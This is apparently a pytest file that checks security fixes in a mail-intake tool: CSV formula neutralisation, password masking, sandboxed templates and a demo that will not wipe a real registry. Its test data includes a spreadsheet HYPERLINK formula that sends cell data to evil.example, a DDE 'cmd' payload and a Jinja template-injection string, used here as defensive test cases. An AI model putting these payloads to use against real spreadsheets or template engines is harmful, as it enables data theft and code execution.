"""The smaller points of issue 11 ("Who may do what") that stand alone: CSV
cells a spreadsheet would run, passwords in reprs and messages, the permit
password on the command line, sandboxed templates, and a demo that could wipe
a real registry."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from mailintake.base.config import load
from mailintake.base.data.db import Registry
from mailintake.base.errors import ConfigError
from mailintake.cli import cli
from mailintake.cli.output import csv_text
from mailintake.cli.permit import PASSWORD_ENV, _file_password
from mailintake.ops.reports import log_csv, spreadsheet_safe

SECRET = "s3cret-XYZ"


# --- 1. CSV cells that a spreadsheet would run --------------------------------------------------
def test_csv_cells_that_start_a_formula_are_neutralised() -> None:
    subject = '=HYPERLINK("http://evil.example/?d="&A1,"ขออนุญาตจัดงาน")'
    at_sum = "@SUM(1+1)*cmd|' /C calc'!A0"
    rows = [
        {"subject": subject, "note": at_sum, "plus": "+66 81 234 5678", "tab": "\t=1+1", "cr": "-"},
        {"subject": "ขออนุญาตจัดงานวัด", "note": "-", "plus": -5, "tab": "-5", "cr": 3.5},
    ]
    read = list(csv.DictReader(io.StringIO(csv_text(rows))))
    assert read[0]["subject"] == "'" + subject
    assert read[0]["note"] == "'" + at_sum
    assert read[0]["plus"] == "'+66 81 234 5678"
    assert read[0]["tab"] == "'\t=1+1" and spreadsheet_safe("\r=1+1") == "'\r=1+1"
    # Plain Thai text and numbers, negative ones included, stay as they are.
    assert read[1] == {"subject": "ขออนุญาตจัดงานวัด", "note": "'-", "plus": "-5", "tab": "-5", "cr": "3.5"}
    assert csv_text([{"list": ["=1", 2]}]).splitlines()[1] == '"[""=1"", 2]"'


def test_the_service_log_export_neutralises_formulas() -> None:
    row = {
        "date_received": "2025-12-09",
        "date_replied": "",
        "requester": "@evil <a@example.com>",
        "subject": '=HYPERLINK("http://evil.example","คลิก")',
        "source": "email",
        "remarks": "-2+3",
    }
    for lang in ("th", "en"):
        line = list(csv.reader(io.StringIO(log_csv([row], lang))))[1]
        assert line[2] == "'@evil <a@example.com>"
        assert line[3] == '\'=HYPERLINK("http://evil.example","คลิก")'
        assert line[5] == "'-2+3"
        assert line[0] == "2025-12-09"
    assert spreadsheet_safe(-7) == -7 and spreadsheet_safe("-7.5") == "-7.5" and spreadsheet_safe("ok") == "ok"


# --- 2. passwords never shown ---------------------------------------------------------------------
def test_passwords_are_masked_in_repr_and_in_errors(tmp_path: Path) -> None:
    cfg = tmp_path / "config.toml"
    cfg.write_text(
        f'[mailbox]\npassword = "{SECRET}"\n[smtp]\npassword = "{SECRET}"\n'
        f'[permits]\nsign_password = "{SECRET}"\n[storage]\npath = "{tmp_path}/var"\n',
        encoding="utf-8",
    )
    config = load(cfg, environ={})
    assert config.smtp.password == SECRET
    for shown in (repr(config), str(config), repr(config.smtp), str(config.mailbox), repr(config.permits)):
        assert SECRET not in shown
    assert "password=***" in repr(config.smtp) and "sign_password=***" in repr(config.permits)
    # An error about another key of the same section does not show it either.
    cfg.write_text(cfg.read_text(encoding="utf-8").replace("[smtp]\n", '[smtp]\nport = "abc"\n'), encoding="utf-8")
    with pytest.raises(ConfigError) as err:
        load(cfg, environ={})
    assert "port" in str(err.value) and SECRET not in str(err.value)
    # Nor one about the secret itself, from the file or from the environment.
    cfg.write_text("[smtp]\npassword = 5\n", encoding="utf-8")
    with pytest.raises(ConfigError) as err:
        load(cfg, environ={})
    assert str(err.value) == "config.toml: [smtp] password: expected text, got ***"
    r = CliRunner().invoke(cli, ["--config", str(cfg), "rules", "check"], env={"MAILINTAKE_SMTP_PASSWORD": SECRET})
    assert SECRET not in r.output


# --- 3. the permit's password never on the command line -----------------------------------------
def test_permit_verify_takes_no_password_on_the_command_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    pdf = tmp_path / "p.pdf"
    pdf.write_bytes(b"%PDF-1.7\n")
    r = CliRunner().invoke(cli, ["permit", "verify", str(pdf), "--password", SECRET])
    assert r.exit_code == 2 and "No such option '--password'" in r.output
    pw = tmp_path / "pw.txt"
    pw.write_text(f"  {SECRET}  \nsecond line\n", encoding="utf-8")
    monkeypatch.delenv(PASSWORD_ENV, raising=False)
    assert _file_password(str(pw)) == SECRET
    assert _file_password(None) is None  # not a terminal, nothing given: checked without it
    monkeypatch.setenv(PASSWORD_ENV, SECRET)
    assert _file_password(None) == SECRET


# --- 4. sandboxed templates -------------------------------------------------------------------------
def test_a_template_cannot_reach_python_internals(tmp_path: Path) -> None:
    templates = tmp_path / "templates"
    templates.mkdir()
    (templates / "ack.subject.j2").write_text("{{ ''.__class__.__mro__[1].__subclasses__() }}\n", encoding="utf-8")
    (templates / "verify.subject.j2").write_text("{% set seen = [] %}{{ seen.append(1) }}\n", encoding="utf-8")
    cfg = tmp_path / "config.toml"
    cfg.write_text(f'[agency]\ntemplates_dir = "templates"\n[storage]\npath = "{tmp_path}/var"\n', encoding="utf-8")
    r = CliRunner().invoke(cli, ["--config", str(cfg), "rules", "check"])
    assert r.exit_code == 1
    errors = [line for line in r.output.splitlines() if line.startswith("error:")]
    assert f"error: {templates}/ack.subject.j2:1: access to attribute '__class__' of 'str' object is unsafe." in errors
    assert f"error: {templates}/verify.subject.j2:1: access to attribute 'append' of 'list' object is unsafe." in errors


# --- 5. the demo never wipes a real registry --------------------------------------------------------
def test_demo_refuses_a_config_it_did_not_make(tmp_path: Path) -> None:
    cfg = tmp_path / "config.toml"
    cfg.write_text(f'[storage]\npath = "{tmp_path}/var"\n', encoding="utf-8")
    db = tmp_path / "var" / "mailintake.db"
    db.parent.mkdir()
    reg = Registry(db)
    with reg.transaction():
        reg.set_kv("real", "yes")
    for args in (["demo"], ["demo", "--fresh"]):
        r = CliRunner().invoke(cli, ["--config", str(cfg), *args])
        assert r.exit_code == 1
        assert (
            r.output
            == f"Error: {cfg}: not a config made by `mailintake demo` (no '# made by mailintake demo' line); run the demo in an empty directory\n"
        )
    # Even with the mark, --fresh empties only a registry the demo filled.
    cfg.write_text("# made by mailintake demo\n" + cfg.read_text(encoding="utf-8"), encoding="utf-8")
    r = CliRunner().invoke(cli, ["--config", str(cfg), "demo", "--fresh"])
    assert r.exit_code == 1 and r.output == f"Error: {db}: a registry the demo did not fill; not emptying it\n"
    assert Registry(db).get_kv("real") == "yes"


def test_the_config_the_demo_writes_carries_the_mark(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("MAILINTAKE_CONFIG", raising=False)
    r = CliRunner().invoke(cli, ["demo"], catch_exceptions=False)
    assert r.exit_code == 0, r.output
    assert (tmp_path / "config.toml").read_text(encoding="utf-8").startswith("# made by mailintake demo\n")
    again = CliRunner().invoke(cli, ["demo", "--fresh"])
    assert again.exit_code == 0 and "4 applications registered" in again.output
